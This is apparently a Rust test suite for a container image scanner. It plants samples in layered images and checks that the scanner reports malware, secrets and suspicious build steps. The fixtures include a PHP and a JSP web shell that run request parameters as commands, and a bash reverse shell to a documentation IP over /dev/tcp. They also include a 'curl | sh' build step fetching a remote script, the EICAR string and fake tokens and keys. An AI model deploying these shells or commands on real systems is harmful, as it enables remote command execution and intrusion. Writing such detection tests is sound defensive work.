//! What lies in an image besides packages: malicious code, secrets, suspicious build steps, each
//! found with its layer and evidence. The malicious files are inert look-alikes; the virus test
//! file is put together here.

use std::io::Write;
use std::path::Path;
use std::process::Command;

use serde_json::{Value, json};
use walks::{Image, lazaret, scratch, which};

/// A page that runs what a visitor sends. Never executed: it is only read.
const PHP: &[u8] =
    b"<?php\n// status page\n@eval(base64_decode($_POST['cmd']));\nsystem($_REQUEST['c']);\n";
const JSP: &[u8] =
    b"<%@ page import=\"java.io.*\" %>\n<%\nString c = request.getParameter(\"cmd\");\n\
Process p = Runtime.getRuntime().exec(new String[]{\"/bin/sh\", \"-c\", c});\n\
BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));\n\
String l; while ((l = r.readLine()) != null) { out.println(l); }\n%>\n";
const SHELL: &[u8] = b"#!/bin/bash\nexec 5<>/dev/tcp/203.0.113.7/4444\ncat <&5 | while read line; do $line 2>&5 >&5; done\n";

/// The standard virus test file, in two halves so that no scanner takes this source for it.
fn eicar() -> Vec<u8> {
    let halves = [r"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-", "ANTIVIRUS-TEST-FILE!$H+H*"];
    halves.concat().into_bytes()
}

fn zipped(name: &str, content: &[u8]) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    zip.start_file(name, zip::write::SimpleFileOptions::default()).unwrap();
    zip.write_all(content).unwrap();
    zip.finish().unwrap().into_inner()
}

/// A private key and its certificate, made by openssl.
fn key_pair(directory: &Path) -> (Vec<u8>, Vec<u8>) {
    let (key, certificate) = (directory.join("k.pem"), directory.join("c.pem"));
    let made = Command::new("openssl")
        .args(["req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "30"])
        .args(["-subj", "/CN=planted.example", "-keyout"])
        .arg(&key)
        .arg("-out")
        .arg(&certificate)
        .output()
        .unwrap();
    assert!(made.status.success(), "{}", String::from_utf8_lossy(&made.stderr));
    (std::fs::read(key).unwrap(), std::fs::read(certificate).unwrap())
}

/// A token of the shape that a code host gives out, made of nothing.
fn token() -> String {
    format!("ghp_{}", "aB3dE5fG7hJ9kL1mN2pQ4rS6tU8vW0xYz2Z4")
}

fn planted(directory: &Path) -> String {
    assert!(which("openssl"), "openssl is not installed: run `make setup-test`");
    let (key, certificate) = key_pair(directory);
    let token = token();
    let environment = format!("DB_PASSWORD=kV9-tram-Quartz-77\nGITHUB_TOKEN={token}\n");
    let jar = zipped("lib/inner.zip", &zipped("eicar.com", &eicar()));
    let argument = format!("|1 NPM_TOKEN={token} /bin/sh -c npm ci # buildkit");
    Image::new()
        .layer("/bin/sh -c #(nop) ADD file:base in / ", &[("etc/hostname", 0o644, b"box\n")])
        .step("ARG NPM_TOKEN")
        .layer(&argument, &[("srv/app/package.json", 0o644, b"{}")])
        .layer(
            "COPY . /srv # buildkit",
            &[
                ("srv/www/status.php", 0o644, PHP),
                ("srv/www/admin/run.jsp", 0o644, JSP),
                ("usr/local/bin/beacon", 0o755, SHELL),
                ("srv/app/.env", 0o644, environment.as_bytes()),
                ("srv/app/tls/server.key", 0o600, &key),
                ("srv/app/tls/server.crt", 0o644, &certificate),
            ],
        )
        .layer(
            "RUN /bin/sh -c curl -fsSL http://203.0.113.7/install.sh | sh # buildkit",
            &[("opt/lib/app.jar", 0o644, &jar)],
        )
        .layer(
            "RUN /bin/sh -c rm /opt/lib/app.jar # buildkit",
            &[("opt/lib/.wh.app.jar", 0o644, b"")],
        )
        .config(json!({"Env": [format!("DEPLOY_TOKEN={token}")], "Cmd": ["/bin/sh"]}))
        .save(directory, "planted")
        .display()
        .to_string()
}

fn scan(image: &str, extra: &[&str]) -> walks::Run {
    let mut arguments = vec!["scan", "--exit-zero"];
    arguments.extend(extra);
    arguments.push(image);
    lazaret(&arguments).expect(0)
}

fn of_kind<'a>(report: &'a Value, kind: &str) -> Vec<&'a Value> {
    let findings = report["findings"].as_array().unwrap().iter();
    findings.filter_map(|finding| finding.get(kind)).collect()
}

#[test]
fn malicious_code_in_every_layer() {
    let directory = scratch();
    let report = scan(&planted(directory.path()), &["--format", "json"]).json();
    let malware = of_kind(&report, "malware");
    let at = |path: &str| {
        let found = malware.iter().find(|file| file["path"] == path);
        found.unwrap_or_else(|| panic!("nothing at {path}: {malware:#?}"))
    };
    for (path, layer, kind) in [
        ("srv/www/status.php", 2, "php"),
        ("srv/www/admin/run.jsp", 2, "jsp"),
        ("usr/local/bin/beacon", 2, "shell"),
    ] {
        let file = at(path);
        assert_eq!(file["band"], "malicious", "{file:#}");
        assert_eq!((&file["layer"], &file["file_kind"]), (&json!(layer), &json!(kind)), "{path}");
        let yara = file["methods"].as_array().unwrap().iter().find(|said| said["method"] == "yara");
        let evidence = &yara.unwrap()["evidence"][0];
        assert!(evidence["author"].as_str().is_some_and(|author| !author.is_empty()), "{file:#}");
        assert!(evidence["span"]["length"].as_u64().is_some_and(|length| length > 0), "{file:#}");
    }
    let eicar = at("opt/lib/app.jar!/lib/inner.zip!/eicar.com");
    assert_eq!((&eicar["layer"], &eicar["deleted_by"]), (&json!(3), &json!(4)), "{eicar:#}");
    assert_eq!(eicar["band"], "malicious");
    assert_eq!(malware.len(), 4, "{malware:#?}");
}

#[test]
fn secrets_keys_and_certificates() {
    let directory = scratch();
    let image = planted(directory.path());
    let run = scan(&image, &["--format", "json"]);
    for clear in [token(), "kV9-tram-Quartz-77".to_owned()] {
        assert!(!run.out.contains(&clear), "a secret is shown in clear");
    }
    let report = run.json();
    let secrets = of_kind(&report, "secret");
    let at = |place: &Value| -> Vec<&str> {
        let found = secrets.iter().filter(|secret| secret["place"] == *place);
        found.map(|secret| secret["category"].as_str().unwrap()).collect()
    };
    assert_eq!(at(&json!({"file": "srv/app/tls/server.key"})), ["private_key"]);
    let mut in_env = at(&json!({"file": "srv/app/.env"}));
    in_env.sort_unstable();
    assert_eq!(in_env, ["password", "token"]);
    assert_eq!(at(&json!({"environment": "DEPLOY_TOKEN"})), ["token"]);
    assert_eq!(at(&json!({"history": 2})), ["token"], "the build argument");
    let step = secrets.iter().find(|secret| secret["place"] == json!({"history": 2})).unwrap();
    assert_eq!(step["layer"], 1, "the layer of its step");
    let key = secrets.iter().find(|secret| secret["category"] == "private_key").unwrap();
    assert_eq!(key["key"]["algorithm"], "rsa");
    assert_eq!(key["key"]["bits"], 2048);
    assert_eq!(key["key"]["encrypted"], false);
    assert_eq!(key["key"]["certificate"], "srv/app/tls/server.crt");
    let same: std::collections::BTreeSet<&str> = secrets
        .iter()
        .filter(|secret| secret["category"] == "token")
        .map(|secret| secret["fingerprint"].as_str().unwrap())
        .collect();
    assert_eq!(same.len(), 1, "one token in three places has one fingerprint");
}

#[test]
fn suspicious_steps_with_their_layer() {
    let directory = scratch();
    let report = scan(&planted(directory.path()), &["--format", "json"]).json();
    let steps = of_kind(&report, "history");
    let step = steps.iter().find(|step| step["text"].as_str().unwrap().contains("install.sh"));
    let step = step.unwrap_or_else(|| panic!("{steps:#?}"));
    assert_eq!(step["layer"], 3);
    assert!(!step["attack"].as_array().unwrap().is_empty());
}

#[test]
fn every_format_tells_them() {
    let directory = scratch();
    let image = planted(directory.path());
    for format in ["table", "sarif", "html", "junit"] {
        let run = scan(&image, &["--format", format]);
        // JUnit has one line for what is only warned of: the step's title.
        let step = if format == "junit" { "straight to a shell" } else { "install.sh" };
        for told in ["srv/www/status.php", "eicar.com", "server.key", step] {
            assert!(run.out.contains(told), "{format} does not tell {told}: {}", run.out);
        }
        assert!(!run.out.contains(&token()), "{format} shows a secret in clear");
    }
}

#[test]
fn one_finding_is_explained() {
    let directory = scratch();
    let image = planted(directory.path());
    let report = scan(&image, &["--format", "json"]).json();
    let findings = report["findings"].as_array().unwrap();
    let shell = findings.iter().find(|f| f["malware"]["path"] == "srv/www/status.php").unwrap();
    let id = shell["id"].as_str().unwrap();
    let told = scan(&image, &["--explain", id]).out;
    for word in ["srv/www/status.php", "eval", "yara"] {
        assert!(told.contains(word), "{told}");
    }
    let unknown = lazaret(&["scan", "--explain", "ffffffffffffffff", &image]).expect(2);
    assert!(unknown.error_line().contains("ffffffffffffffff"), "{}", unknown.err);
}

#[test]
fn a_clean_image_shows_none() {
    let directory = scratch();
    let image = Image::new()
        .layer("/bin/sh -c #(nop) ADD file:base in / ", &[("etc/hostname", 0o644, b"box\n")])
        .layer(
            "COPY . /srv # buildkit",
            &[
                (
                    "srv/www/index.php",
                    0o644,
                    b"<?php\necho htmlspecialchars($_GET['name'] ?? 'you');\n",
                ),
                ("srv/app/.env", 0o644, b"LOG_LEVEL=info\nPASSWORD=${PASSWORD}\n"),
                ("srv/app/run.sh", 0o755, b"#!/bin/sh\nset -eu\nexec node server.js\n"),
            ],
        )
        .config(json!({"Env": ["PATH=/usr/bin:/bin"], "Cmd": ["/srv/app/run.sh"]}))
        .save(directory.path(), "clean");
    let report = scan(&image.display().to_string(), &["--format", "json"]).json();
    assert_eq!(report["findings"], json!([]));
}

#[test]
fn what_is_not_asked_for_is_not_looked_for() {
    let directory = scratch();
    let image = planted(directory.path());
    let report = scan(&image, &["--format", "json", "--scanners", "vuln,history"]).json();
    assert!(of_kind(&report, "malware").is_empty() && of_kind(&report, "secret").is_empty());
    assert!(!of_kind(&report, "history").is_empty());
}
